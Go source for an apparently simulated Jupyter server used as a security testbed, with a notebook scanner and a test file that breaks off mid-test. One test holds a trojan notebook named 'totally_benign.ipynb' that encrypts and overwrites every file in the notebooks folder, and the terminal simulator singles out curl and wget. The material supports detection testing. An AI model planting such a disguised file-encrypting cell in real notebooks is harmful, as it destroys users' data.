	return func(s *Server) { s.hostWrapper, s.execHook = w, execHook }
}

// NewServer constructs a Server (not yet listening).
func NewServer(cfg Config, opts ...Option) *Server {
	s := &Server{
		cfg:       cfg,
		clock:     trace.RealClock{},
		sessions:  map[string]*NotebookSession{},
		terminals: map[string]*Terminal{},
	}
	for _, o := range opts {
		o(s)
	}
	if s.bus == nil {
		s.bus = trace.NewBus(s.clock)
	}
	fsOpts := []vfs.Option{vfs.WithClock(s.clock), vfs.WithSink(s.bus)}
	if cfg.ContentQuota > 0 {
		fsOpts = append(fsOpts, vfs.WithQuota(cfg.ContentQuota))
	}
	s.FS = vfs.New(fsOpts...)
	s.Auth = auth.New(cfg.Auth, s.clock, s.bus)
	kcfg := kernel.Config{
		FS:            s.FS,
		Clock:         s.clock,
		Sink:          s.bus,
		Hostname:      "hpc-login-01",
		ShellEnabled:  cfg.ShellInKernel,
		ConnectionKey: cfg.ConnectionKey,
		Gateway:       s.gateway,
		HostWrapper:   s.hostWrapper,
		ExecHook:      s.execHook,
		Engine:        cfg.KernelEngine,
	}
	if cfg.KernelLimits.MaxSteps > 0 {
		kcfg.Limits.MaxSteps = cfg.KernelLimits.MaxSteps
	}
	if cfg.KernelLimits.MaxOutputBytes > 0 {
		kcfg.Limits.MaxOutputBytes = cfg.KernelLimits.MaxOutputBytes
	}
	s.Kernels = kernel.NewManager(kcfg)
	return s
}

// Bus returns the server's trace bus.
func (s *Server) Bus() *trace.Bus { return s.bus }

// Config returns the active configuration.
func (s *Server) Config() Config { return s.cfg }

// Handler returns the HTTP handler (useful for in-process tests).
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/api/status", s.withAuth(s.handleStatus))
	mux.HandleFunc("/login", s.handleLogin)
	mux.HandleFunc("/api/contents/", s.withAuth(s.handleContents))
	mux.HandleFunc("/api/contents", s.withAuth(s.handleContents))
	mux.HandleFunc("/api/kernels", s.withAuth(s.handleKernels))
	mux.HandleFunc("/api/kernels/", s.withAuth(s.handleKernelByID))
	mux.HandleFunc("/api/sessions", s.withAuth(s.handleSessions))
	mux.HandleFunc("/api/sessions/", s.withAuth(s.handleSessionByID))
	mux.HandleFunc("/api/terminals", s.withAuth(s.handleTerminals))
	mux.HandleFunc("/api/terminals/", s.withAuth(s.handleTerminalByName))
	mux.HandleFunc("/terminals/websocket/", s.withAuth(s.handleTerminalWS))
	return s.corsMiddleware(mux)
}

// Start listens and serves in a background goroutine, returning the
// bound address.
func (s *Server) Start() (string, error) {
	addr := fmt.Sprintf("%s:%d", s.cfg.BindAddress, s.cfg.Port)
	if s.cfg.BindAddress == "" || s.cfg.BindAddress == "0.0.0.0" {
		// In the simulator everything stays on loopback; an exposed
		// bind is recorded in config posture, not actually opened.
		addr = fmt.Sprintf("127.0.0.1:%d", s.cfg.Port)
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", fmt.Errorf("server: listen: %w", err)
	}
	return s.Serve(ln)
}

// Serve serves on an existing listener (tests wrap it with the netmon
// tap) and returns the bound address.
func (s *Server) Serve(ln net.Listener) (string, error) {
	s.listener = ln
	s.started = s.clock.Now()
	s.httpServer = &http.Server{Handler: s.Handler()}
	go func() {
		if err := s.httpServer.Serve(ln); err != nil && !errors.Is(err, http.ErrServerClosed) &&
			!errors.Is(err, net.ErrClosed) {
			// Serve errors after Close are expected; others surface in tests.
			_ = err
		}
	}()
	return ln.Addr().String(), nil
}

// Close stops the server.
func (s *Server) Close() error {
	if s.httpServer != nil {
		return s.httpServer.Close()
	}
	return nil
}

// ---- middleware ----

func splitHostPort(remote string) (string, int) {
	host, portStr, err := net.SplitHostPort(remote)
	if err != nil {
		return remote, 0
	}
	var port int
	fmt.Sscanf(portStr, "%d", &port)
	return host, port
}

func (s *Server) corsMiddleware(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if s.cfg.AllowOrigin != "" {
			w.Header().Set("Access-Control-Allow-Origin", s.cfg.AllowOrigin)
		}
		next.ServeHTTP(w, r)
	})
}

// authenticate resolves the requester's identity. It returns the user
// ("" for token/open auth) and whether the request is allowed.
func (s *Server) authenticate(r *http.Request) (string, bool) {
	if s.cfg.Auth.DisableAuth {
		_, _ = s.Auth.CheckToken(remoteIP(r), "", false)
		return "anonymous", true
	}
	src := remoteIP(r)
	// Authorization: token <tok>
	if h := r.Header.Get("Authorization"); strings.HasPrefix(h, "token ") {
		d, err := s.Auth.CheckToken(src, strings.TrimPrefix(h, "token "), false)
		if err == nil && (d == auth.DecisionAllow || d == auth.DecisionNoAuthOpen) {
			return "token-user", true
		}
		return "", false
	}
	// ?token= in URL.
	if tok := r.URL.Query().Get("token"); tok != "" {
		d, err := s.Auth.CheckToken(src, tok, true)
		if err == nil && (d == auth.DecisionAllow || d == auth.DecisionNoAuthOpen) {
			return "token-user", true
		}
		return "", false
	}
	// Session cookie.
	if c, err := r.Cookie("jupyter-session"); err == nil {
		if sess, err := s.Auth.CheckSession(c.Value); err == nil {
			return sess.User, true
		}
	}
	return "", false
}

func remoteIP(r *http.Request) string {
	ip, _ := splitHostPort(r.RemoteAddr)
	return ip
}

func (s *Server) withAuth(h func(http.ResponseWriter, *http.Request, string)) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		user, ok := s.authenticate(r)
		srcIP, srcPort := splitHostPort(r.RemoteAddr)
		if !ok {
			s.emitHTTP(r, srcIP, srcPort, "", http.StatusForbidden)
			http.Error(w, `{"message":"Forbidden"}`, http.StatusForbidden)
			return
		}
		// WebSocket upgrades hijack the conn; record them as 101.
		if wsproto.IsUpgradeRequest(r) {
			s.emitHTTP(r, srcIP, srcPort, user, http.StatusSwitchingProtocols)
			h(w, r, user)
			return
		}
		rec := &recorder{ResponseWriter: w, status: http.StatusOK}
		h(rec, r, user)
		s.emitHTTP(r, srcIP, srcPort, user, rec.status)
	}
}

// recorder captures the response status for trace events while still
// supporting hijack for WebSocket endpoints.
type recorder struct {
	http.ResponseWriter
	status int
}

func (r *recorder) WriteHeader(code int) {
	r.status = code
	r.ResponseWriter.WriteHeader(code)
}

func (s *Server) emitHTTP(r *http.Request, srcIP string, srcPort int, user string, status int) {
	s.bus.Emit(trace.Event{
		Kind: trace.KindHTTP, Method: r.Method, Path: r.URL.Path,
		Status: status, SrcIP: srcIP, SrcPort: srcPort, User: user,
		Success: status < 400,
	})
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func apiError(w http.ResponseWriter, status int, format string, args ...any) {
	writeJSON(w, status, map[string]string{"message": fmt.Sprintf(format, args...)})
}

// ---- handlers ----

func (s *Server) handleStatus(w http.ResponseWriter, r *http.Request, user string) {
	writeJSON(w, http.StatusOK, map[string]any{
		"version":        Version,
		"started":        s.started.UTC().Format(time.RFC3339),
		"kernels":        s.Kernels.Count(),
		"last_activity":  s.clock.Now().UTC().Format(time.RFC3339),
		"authentication": !s.cfg.Auth.DisableAuth,
	})
}

func (s *Server) handleLogin(w http.ResponseWriter, r *http.Request) {
	srcIP, srcPort := splitHostPort(r.RemoteAddr)
	if r.Method != http.MethodPost {
		s.emitHTTP(r, srcIP, srcPort, "", http.StatusMethodNotAllowed)
		apiError(w, http.StatusMethodNotAllowed, "POST required")
		return
	}
	var creds struct {
		Username string `json:"username"`
		Password string `json:"password"`
	}
	body, err := io.ReadAll(io.LimitReader(r.Body, 1<<16))
	if err == nil && len(body) > 0 {
		_ = json.Unmarshal(body, &creds)
	}
	if creds.Username == "" {
		creds.Username = r.FormValue("username")
		creds.Password = r.FormValue("password")
	}
	sess, decision, err := s.Auth.Login(remoteIP(r), creds.Username, creds.Password)
	switch {
	case err == nil:
		http.SetCookie(w, &http.Cookie{Name: "jupyter-session", Value: sess.ID, HttpOnly: true})
		s.emitHTTP(r, srcIP, srcPort, creds.Username, http.StatusOK)
		writeJSON(w, http.StatusOK, map[string]string{"status": "ok", "session": sess.ID})
	case decision == auth.DecisionThrottled:
		s.emitHTTP(r, srcIP, srcPort, creds.Username, http.StatusTooManyRequests)
		apiError(w, http.StatusTooManyRequests, "too many failures")
	default:
		s.emitHTTP(r, srcIP, srcPort, creds.Username, http.StatusUnauthorized)
		apiError(w, http.StatusUnauthorized, "bad credentials")
	}
}

// contentsModel is the Jupyter contents API JSON shape.
type contentsModel struct {
	Name         string          `json:"name"`
	Path         string          `json:"path"`
	Type         string          `json:"type"`
	Format       string          `json:"format,omitempty"`
	Content      json.RawMessage `json:"content,omitempty"`
	Created      string          `json:"created,omitempty"`
	LastModified string          `json:"last_modified,omitempty"`
	Size         int             `json:"size,omitempty"`
	Writable     bool            `json:"writable"`
}

func nodeToModel(n *vfs.Node, withContent bool) contentsModel {
	m := contentsModel{
		Name: n.Path, Path: n.Path, Type: n.Type,
		Created:      n.Created.UTC().Format(time.RFC3339),
		LastModified: n.Modified.UTC().Format(time.RFC3339),
		Size:         len(n.Content), Writable: n.Writable,
	}
	if i := strings.LastIndexByte(n.Path, '/'); i >= 0 {
		m.Name = n.Path[i+1:]
	}
	if withContent && n.Type != vfs.TypeDirectory {
		if n.Type == vfs.TypeNotebook {
			m.Format = "json"
			m.Content = json.RawMessage(n.Content)
			if !json.Valid(m.Content) {
				b, _ := json.Marshal(string(n.Content))
				m.Format = "text"
				m.Content = b
			}
		} else {
			m.Format = "text"
			b, _ := json.Marshal(string(n.Content))
			m.Content = b
		}
	}
	return m
}

func (s *Server) handleContents(w http.ResponseWriter, r *http.Request, user string) {
	p := strings.TrimPrefix(r.URL.Path, "/api/contents")
	p = strings.TrimPrefix(p, "/")
	switch r.Method {
	case http.MethodGet:
		// GET /api/contents/<path>/checkpoints -> list checkpoints.
		if strings.HasSuffix(p, "/checkpoints") {
			target := strings.TrimSuffix(p, "/checkpoints")
			cks, err := s.FS.Checkpoints(target)
			if err != nil {
				apiError(w, http.StatusNotFound, "%v", err)
				return
			}
			out := make([]map[string]string, len(cks))
			for i, ck := range cks {
				out[i] = map[string]string{
					"id": ck.ID, "last_modified": ck.Taken.UTC().Format(time.RFC3339),
				}
			}
			writeJSON(w, http.StatusOK, out)
			return
		}
		node, err := s.FS.Stat(p)
		if err != nil {
			apiError(w, http.StatusNotFound, "no such entry: %s", p)
			return
		}
		if node.Type == vfs.TypeDirectory {
			children, err := s.FS.List(p)
			if err != nil {
				apiError(w, http.StatusInternalServerError, "%v", err)
				return
			}
			models := make([]contentsModel, len(children))
			for i, c := range children {
				models[i] = nodeToModel(c, false)
			}
			m := nodeToModel(node, false)
			b, _ := json.Marshal(models)
			m.Content = b
			m.Format = "json"
			writeJSON(w, http.StatusOK, m)
			return
		}
		// Reading through the API counts as a read for detection.
		if _, err := s.FS.Read(p, user); err != nil {
			apiError(w, http.StatusNotFound, "%v", err)
			return
		}
		writeJSON(w, http.StatusOK, nodeToModel(node, true))
	case http.MethodPut:
		var m contentsModel
		if err := json.NewDecoder(io.LimitReader(r.Body, 64<<20)).Decode(&m); err != nil {
			apiError(w, http.StatusBadRequest, "bad body: %v", err)
			return
		}
		if m.Type == vfs.TypeDirectory {
			if err := s.FS.Mkdir(p); err != nil {
				apiError(w, http.StatusBadRequest, "%v", err)
				return
			}
			writeJSON(w, http.StatusCreated, map[string]string{"path": p, "type": "directory"})
			return
		}
		var content []byte
		if m.Format == "text" || m.Type == vfs.TypeFile {
			var sVal string
			if err := json.Unmarshal(m.Content, &sVal); err != nil {
				// Notebook JSON bodies arrive raw.
				content = []byte(m.Content)
			} else {
				content = []byte(sVal)
			}
		} else {
			content = []byte(m.Content)
		}
		// Validate notebooks before storing, as Jupyter does; when
		// scanning is on, statically analyze the code cells and emit a
		// finding event the detection engine can alert on.
		if strings.HasSuffix(p, ".ipynb") {
			nb, err := nbformat.Parse(content)
			if err != nil {
				apiError(w, http.StatusBadRequest, "invalid notebook: %v", err)
				return
			}
			if s.cfg.ScanNotebooks {
				if findings := nbscan.ScanNotebook(nb); len(findings) > 0 {
					srcIP, _ := splitHostPort(r.RemoteAddr)
					classes := map[string]bool{}
					for _, f := range findings {
						classes[f.Class] = true
					}
					classList := make([]string, 0, len(classes))
					for c := range classes {
						classList = append(classList, c)
					}
					sort.Strings(classList)
					s.bus.Emit(trace.Event{
						Kind: trace.KindFileOp, Op: "nb_scan", Target: p,
						User: user, SrcIP: srcIP,
						Bytes: int64(len(findings)), Success: false,
						Detail: findings[0].Evidence,
						Fields: map[string]string{
							"nb_top_severity": string(nbscan.TopSeverity(findings)),
							"nb_classes":      strings.Join(classList, ","),
						},
					})
				}
			}
		}
		if err := s.FS.Write(p, user, content); err != nil {
			status := http.StatusBadRequest
			if errors.Is(err, vfs.ErrQuotaExceeded) {
				status = http.StatusInsufficientStorage
			}
			apiError(w, status, "%v", err)
			return
		}
		node, _ := s.FS.Stat(p)
		writeJSON(w, http.StatusCreated, nodeToModel(node, false))
	case http.MethodDelete:
		if err := s.FS.Delete(p, user); err != nil {
			apiError(w, http.StatusNotFound, "%v", err)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	case http.MethodPatch:
		var body struct {
			Path string `json:"path"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil || body.Path == "" {
			apiError(w, http.StatusBadRequest, "rename needs {\"path\": ...}")
			return
		}
		if err := s.FS.Rename(p, body.Path, user); err != nil {
			apiError(w, http.StatusBadRequest, "%v", err)
			return
		}
		node, _ := s.FS.Stat(body.Path)
		writeJSON(w, http.StatusOK, nodeToModel(node, false))
	case http.MethodPost:
		// POST /api/contents/<path>/checkpoints            -> create
		// POST /api/contents/<path>/checkpoints/<id>       -> restore
		if strings.HasSuffix(p, "/checkpoints") {
			target := strings.TrimSuffix(p, "/checkpoints")
			ck, err := s.FS.CreateCheckpoint(target)
			if err != nil {
				apiError(w, http.StatusNotFound, "%v", err)
				return
			}
			writeJSON(w, http.StatusCreated, map[string]string{
				"id": ck.ID, "last_modified": ck.Taken.UTC().Format(time.RFC3339),
			})
			return
		}
		if i := strings.LastIndex(p, "/checkpoints/"); i >= 0 {
			target, id := p[:i], p[i+len("/checkpoints/"):]
			if err := s.FS.RestoreCheckpoint(target, id, user); err != nil {
				apiError(w, http.StatusNotFound, "%v", err)
				return
			}
			w.WriteHeader(http.StatusNoContent)
			return
		}
		apiError(w, http.StatusBadRequest, "unsupported POST path")
	default:
		apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
	}
}

type kernelModel struct {
	ID             string `json:"id"`
	Name           string `json:"name"`
	ExecutionState string `json:"execution_state"`
	Connections    int    `json:"connections"`
}

func (s *Server) handleKernels(w http.ResponseWriter, r *http.Request, user string) {
	switch r.Method {
	case http.MethodGet:
		ks := s.Kernels.List()
		models := make([]kernelModel, len(ks))
		for i, k := range ks {
			models[i] = kernelModel{ID: k.ID, Name: k.Name, ExecutionState: k.State()}
		}
		writeJSON(w, http.StatusOK, models)
	case http.MethodPost:
		var body struct {
			Name string `json:"name"`
		}
		_ = json.NewDecoder(r.Body).Decode(&body)
		k := s.Kernels.Start(body.Name, user)
		writeJSON(w, http.StatusCreated, kernelModel{ID: k.ID, Name: k.Name, ExecutionState: k.State()})
	default:
		apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
	}
}

func (s *Server) handleKernelByID(w http.ResponseWriter, r *http.Request, user string) {
	rest := strings.TrimPrefix(r.URL.Path, "/api/kernels/")
	parts := strings.Split(rest, "/")
	id := parts[0]
	k, err := s.Kernels.Get(id)
	if err != nil {
		apiError(w, http.StatusNotFound, "%v", err)
		return
	}
	if len(parts) == 1 {
		switch r.Method {
		case http.MethodGet:
			writeJSON(w, http.StatusOK, kernelModel{ID: k.ID, Name: k.Name, ExecutionState: k.State()})
		case http.MethodDelete:
			_ = s.Kernels.Shutdown(id)
			w.WriteHeader(http.StatusNoContent)
		default:
			apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
		}
		return
	}
	switch parts[1] {
	case "interrupt":
		w.WriteHeader(http.StatusNoContent)
	case "restart":
		if err := s.Kernels.Restart(id); err != nil {
			apiError(w, http.StatusInternalServerError, "%v", err)
			return
		}
		writeJSON(w, http.StatusOK, kernelModel{ID: k.ID, Name: k.Name, ExecutionState: k.State()})
	case "channels":
		s.handleKernelChannels(w, r, k, user)
	default:
		apiError(w, http.StatusNotFound, "unknown kernel action %q", parts[1])
	}
}

// handleKernelChannels upgrades to a WebSocket and relays protocol
// messages between the client and the kernel — the Fig. 2 data path.
func (s *Server) handleKernelChannels(w http.ResponseWriter, r *http.Request, k *kernel.Kernel, user string) {
	conn, err := wsproto.Upgrade(w, r)
	if err != nil {
		return
	}
	defer conn.Close(wsproto.CloseNormal, "bye")
	srcIP, srcPort := splitHostPort(r.RemoteAddr)
	for {
		op, payload, err := conn.ReadMessage()
		if err != nil {
			return
		}
		if op != wsproto.OpText && op != wsproto.OpBinary {
			continue
		}
		msg, err := jmsg.UnmarshalWS(payload)
		if err != nil {
			_ = conn.WriteMessage(wsproto.OpText, []byte(`{"error":"bad message"}`))
			continue
		}
		s.bus.Emit(trace.Event{
			Kind: trace.KindKernMsg, MsgType: msg.Header.MsgType,
			Channel: string(msg.Channel), KernelID: k.ID,
			User: user, Session: msg.Header.Session,
			SrcIP: srcIP, SrcPort: srcPort,
			Bytes: int64(len(payload)), Success: true,
		})
		replies, err := k.HandleMessage(msg)
		if err != nil {
			errPayload, _ := json.Marshal(map[string]string{"error": err.Error()})
			_ = conn.WriteMessage(wsproto.OpText, errPayload)
			continue
		}
		for _, reply := range replies {
			out, err := reply.MarshalWS()
			if err != nil {
				continue
			}
			s.bus.Emit(trace.Event{
				Kind: trace.KindKernMsg, MsgType: reply.Header.MsgType,
				Channel: string(reply.Channel), KernelID: k.ID,
				User: user, Session: reply.Header.Session,
				Bytes: int64(len(out)), Success: true,
				Fields: map[string]string{"direction": "out"},
			})
			if err := conn.WriteMessage(wsproto.OpText, out); err != nil {
				return
			}
		}
	}
}

func (s *Server) handleSessions(w http.ResponseWriter, r *http.Request, user string) {
	switch r.Method {
	case http.MethodGet:
		s.mu.Lock()
		out := make([]*NotebookSession, 0, len(s.sessions))
		for _, sess := range s.sessions {
			out = append(out, sess)
		}
		s.mu.Unlock()
		writeJSON(w, http.StatusOK, out)
	case http.MethodPost:
		var body struct {
			Path   string `json:"path"`
			Name   string `json:"name"`
			Type   string `json:"type"`
			Kernel struct {
				Name string `json:"name"`
			} `json:"kernel"`
		}
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			apiError(w, http.StatusBadRequest, "bad body: %v", err)
			return
		}
		k := s.Kernels.Start(body.Kernel.Name, user)
		s.mu.Lock()
		s.sessSeq++
		sess := &NotebookSession{
			ID:       fmt.Sprintf("nbsess-%04d", s.sessSeq),
			Path:     body.Path,
			Name:     body.Name,
			Type:     body.Type,
			KernelID: k.ID,
		}
		s.sessions[sess.ID] = sess
		s.mu.Unlock()
		writeJSON(w, http.StatusCreated, sess)
	default:
		apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
	}
}

func (s *Server) handleSessionByID(w http.ResponseWriter, r *http.Request, user string) {
	id := strings.TrimPrefix(r.URL.Path, "/api/sessions/")
	s.mu.Lock()
	sess, ok := s.sessions[id]
	s.mu.Unlock()
	if !ok {
		apiError(w, http.StatusNotFound, "no session %s", id)
		return
	}
	switch r.Method {
	case http.MethodGet:
		writeJSON(w, http.StatusOK, sess)
	case http.MethodDelete:
		s.mu.Lock()
		delete(s.sessions, id)
		s.mu.Unlock()
		_ = s.Kernels.Shutdown(sess.KernelID)
		w.WriteHeader(http.StatusNoContent)
	default:
		apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
	}
}

func (s *Server) handleTerminals(w http.ResponseWriter, r *http.Request, user string) {
	if !s.cfg.EnableTerminals {
		apiError(w, http.StatusForbidden, "terminals disabled")
		return
	}
	switch r.Method {
	case http.MethodGet:
		s.mu.Lock()
		out := make([]map[string]string, 0, len(s.terminals))
		for name := range s.terminals {
			out = append(out, map[string]string{"name": name})
		}
		s.mu.Unlock()
		writeJSON(w, http.StatusOK, out)
	case http.MethodPost:
		s.mu.Lock()
		s.termSeq++
		name := fmt.Sprintf("%d", s.termSeq)
		s.terminals[name] = &Terminal{Name: name, Started: s.clock.Now()}
		s.mu.Unlock()
		writeJSON(w, http.StatusCreated, map[string]string{"name": name})
	default:
		apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
	}
}

func (s *Server) handleTerminalByName(w http.ResponseWriter, r *http.Request, user string) {
	if !s.cfg.EnableTerminals {
		apiError(w, http.StatusForbidden, "terminals disabled")
		return
	}
	name := strings.TrimPrefix(r.URL.Path, "/api/terminals/")
	s.mu.Lock()
	term, ok := s.terminals[name]
	s.mu.Unlock()
	if !ok {
		apiError(w, http.StatusNotFound, "no terminal %s", name)
		return
	}
	switch r.Method {
	case http.MethodGet:
		writeJSON(w, http.StatusOK, map[string]string{"name": term.Name})
	case http.MethodDelete:
		s.mu.Lock()
		delete(s.terminals, name)
		s.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	default:
		apiError(w, http.StatusMethodNotAllowed, "method %s", r.Method)
	}
}

// handleTerminalWS speaks the Jupyter terminado protocol: JSON arrays
// ["stdin", data] in, ["stdout", data] out.
func (s *Server) handleTerminalWS(w http.ResponseWriter, r *http.Request, user string) {
	if !s.cfg.EnableTerminals {
		apiError(w, http.StatusForbidden, "terminals disabled")
		return
	}
	name := strings.TrimPrefix(r.URL.Path, "/terminals/websocket/")
	s.mu.Lock()
	term, ok := s.terminals[name]
	s.mu.Unlock()
	if !ok {
		apiError(w, http.StatusNotFound, "no terminal %s", name)
		return
	}
	conn, err := wsproto.Upgrade(w, r)
	if err != nil {
		return
	}
	defer conn.Close(wsproto.CloseNormal, "bye")
	srcIP, _ := splitHostPort(r.RemoteAddr)
	for {
		op, payload, err := conn.ReadMessage()
		if err != nil {
			return
		}
		if op != wsproto.OpText {
			continue
		}
		var frame []string
		if err := json.Unmarshal(payload, &frame); err != nil || len(frame) < 2 || frame[0] != "stdin" {
			continue
		}
		cmd := strings.TrimSpace(frame[1])
		term.mu.Lock()
		term.history = append(term.history, cmd)
		term.mu.Unlock()
		s.bus.Emit(trace.Event{
			Kind: trace.KindTermCmd, Op: "terminal", Code: cmd,
			User: user, SrcIP: srcIP, Success: true,
			Fields: map[string]string{"terminal": name},
		})
		out := simulateTerminal(cmd)
		resp, _ := json.Marshal([]string{"stdout", out})
		if err := conn.WriteMessage(wsproto.OpText, resp); err != nil {
			return
		}
	}
}

// simulateTerminal returns canned shell output for terminal commands.
func simulateTerminal(cmd string) string {
	fields := strings.Fields(cmd)
	if len(fields) == 0 {
		return "$ "
	}
	switch fields[0] {
	case "ls":
		return "notebooks  data  models\n$ "
	case "whoami":
		return "jovyan\n$ "
	case "pwd":
		return "/home/jovyan\n$ "
	case "curl", "wget":
		return fields[0] + ": simulated network fetch blocked\n$ "
	default:
		return "sh: " + fields[0] + ": simulated\n$ "
	}
}
