package server

import (
	"strings"
	"testing"

	"repro/internal/auth"
	"repro/internal/client"
	"repro/internal/trace"
)

// startTestServer boots a server on an ephemeral port and returns a
// wired client plus the event ring.
func startTestServer(t *testing.T, cfg Config) (*Server, *client.Client, *trace.Ring) {
	t.Helper()
	cfg.BindAddress = "127.0.0.1"
	srv := NewServer(cfg)
	ring := trace.NewRing(10000)
	srv.Bus().Subscribe(ring)
	addr, err := srv.Start()
	if err != nil {
		t.Fatalf("start: %v", err)
	}
	t.Cleanup(func() { srv.Close() })
	return srv, client.New(addr, cfg.Auth.Token), ring
}

func TestStatusRequiresAuth(t *testing.T) {
	_, c, _ := startTestServer(t, HardenedConfig("sekrit-token"))
	c.Token = ""
	if _, err := c.Status(); !client.IsForbidden(err) {
		t.Fatalf("expected 403 without token, got %v", err)
	}
	c.Token = "sekrit-token"
	st, err := c.Status()
	if err != nil {
		t.Fatalf("status with token: %v", err)
	}
	if st["version"] != Version {
		t.Fatalf("version = %v", st["version"])
	}
}

func TestTokenInURLRejectedWhenHardened(t *testing.T) {
	_, c, _ := startTestServer(t, HardenedConfig("sekrit-token"))
	c.TokenInURL = true
	if _, err := c.Status(); !client.IsForbidden(err) {
		t.Fatalf("hardened server must reject ?token=, got %v", err)
	}
}

func TestContentsRoundTrip(t *testing.T) {
	_, c, _ := startTestServer(t, HardenedConfig("tok"))
	if err := c.PutFile("data/readme.txt", "hello jupyter"); err != nil {
		t.Fatalf("put: %v", err)
	}
	got, err := c.ReadFile("data/readme.txt")
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if got != "hello jupyter" {
		t.Fatalf("read = %q", got)
	}
	entries, err := c.ListDir("data")
	if err != nil {
		t.Fatalf("list: %v", err)
	}
	if len(entries) != 1 || entries[0].Path != "data/readme.txt" {
		t.Fatalf("entries = %+v", entries)
	}
	if err := c.Delete("data/readme.txt"); err != nil {
		t.Fatalf("delete: %v", err)
	}
	if _, err := c.ReadFile("data/readme.txt"); err == nil {
		t.Fatal("read after delete should fail")
	}
}

func TestKernelExecuteOverWebSocket(t *testing.T) {
	_, c, ring := startTestServer(t, HardenedConfig("tok"))
	k, err := c.StartKernel("minilang")
	if err != nil {
		t.Fatalf("start kernel: %v", err)
	}
	kc, err := c.ConnectKernel(k.ID, "alice")
	if err != nil {
		t.Fatalf("connect: %v", err)
	}
	defer kc.Close()

	res, err := kc.Execute(`x = 6 * 7
print("answer", x)`)
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	if res.Status != "ok" {
		t.Fatalf("status = %s (%s: %s)", res.Status, res.EName, res.EValue)
	}
	if !strings.Contains(res.Stdout, "answer 42") {
		t.Fatalf("stdout = %q", res.Stdout)
	}
	// Fig. 2 message flow: status busy, execute_input, stream, status
	// idle, execute_reply.
	var types []string
	for _, m := range res.Messages {
		types = append(types, m.Header.MsgType)
	}
	want := []string{"status", "execute_input", "stream", "status", "execute_reply"}
	if strings.Join(types, ",") != strings.Join(want, ",") {
		t.Fatalf("message flow = %v, want %v", types, want)
	}
	// The bus must have seen exec + kernel message events.
	execs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindExec })
	if len(execs) != 1 {
		t.Fatalf("exec events = %d", len(execs))
	}
	kms := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindKernMsg })
	if len(kms) < 6 { // 1 in + 5 out
		t.Fatalf("kern_msg events = %d", len(kms))
	}
}

func TestKernelErrorPath(t *testing.T) {
	_, c, _ := startTestServer(t, HardenedConfig("tok"))
	k, _ := c.StartKernel("")
	kc, err := c.ConnectKernel(k.ID, "alice")
	if err != nil {
		t.Fatalf("connect: %v", err)
	}
	defer kc.Close()
	res, err := kc.Execute(`print(undefined_name)`)
	if err != nil {
		t.Fatalf("execute: %v", err)
	}
	if res.Status != "error" || res.EName != "NameError" {
		t.Fatalf("status=%s ename=%s", res.Status, res.EName)
	}
}

func TestTerminalDisabledWhenHardened(t *testing.T) {
	_, c, _ := startTestServer(t, HardenedConfig("tok"))
	if _, err := c.NewTerminal(); !client.IsForbidden(err) {
		t.Fatalf("terminals must be disabled on hardened config, got %v", err)
	}
}

func TestTerminalCommandLogging(t *testing.T) {
	cfg := HardenedConfig("tok")
	cfg.EnableTerminals = true
	srv, c, ring := startTestServer(t, cfg)
	name, err := c.NewTerminal()
	if err != nil {
		t.Fatalf("new terminal: %v", err)
	}
	tc, err := c.ConnectTerminal(name)
	if err != nil {
		t.Fatalf("connect terminal: %v", err)
	}
	defer tc.Close()
	out, err := tc.Run("whoami")
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if !strings.Contains(out, "jovyan") {
		t.Fatalf("out = %q", out)
	}
	cmds := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindTermCmd })
	if len(cmds) != 1 || cmds[0].Code != "whoami" {
		t.Fatalf("term_cmd events = %+v", cmds)
	}
	srv.mu.Lock()
	term := srv.terminals[name]
	srv.mu.Unlock()
	if h := term.History(); len(h) != 1 || h[0] != "whoami" {
		t.Fatalf("history = %v", h)
	}
}

func TestTrojanNotebookFlaggedOnWrite(t *testing.T) {
	_, c, ring := startTestServer(t, HardenedConfig("tok"))
	trojan := `{
	 "cells": [{"id": "c1", "cell_type": "code", "metadata": {}, "outputs": [],
	   "source": "for f in list_files(\"notebooks\")\n    write_file(f, encrypt(read_file(f), \"k\"))\nend"}],
	 "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`
	if err := c.PutNotebook("shared/totally_benign.ipynb", []byte(trojan)); err != nil {
		t.Fatalf("put: %v", err)
	}
	scans := ring.Filter(func(e trace.Event) bool { return e.Op == "nb_scan" })
	if len(scans) != 1 {
		t.Fatalf("nb_scan events = %d", len(scans))
	}
	if scans[0].Field("nb_top_severity") != "critical" {
		t.Fatalf("scan event = %+v", scans[0])
	}
	// A clean notebook produces no scan event.
	clean := `{"cells": [{"id": "c1", "cell_type": "code", "metadata": {}, "outputs": [],
	   "source": "print(1+1)"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}`
	if err := c.PutNotebook("shared/clean.ipynb", []byte(clean)); err != nil {
		t.Fatal(err)
	}
	scans = ring.Filter(func(e trace.Event) bool { return e.Op == "nb_scan" })
	if len(scans) != 1 {
		t.Fatalf("clean notebook triggered scan event: %d", len(scans))
	}
}

func TestLoginFlow(t *testing.T) {
	cfg := HardenedConfig("tok")
	cfg.Auth.Passwords = map[string]auth.PasswordHash{
		"alice": auth.HashPassword("correct horse"),
	}
	_, c, _ := startTestServer(t, cfg)
	c.Token = ""
	if err := c.Login("alice", "wrong"); err == nil {
		t.Fatal("bad password accepted")
	}
	if err := c.Login("alice", "correct horse"); err != nil {
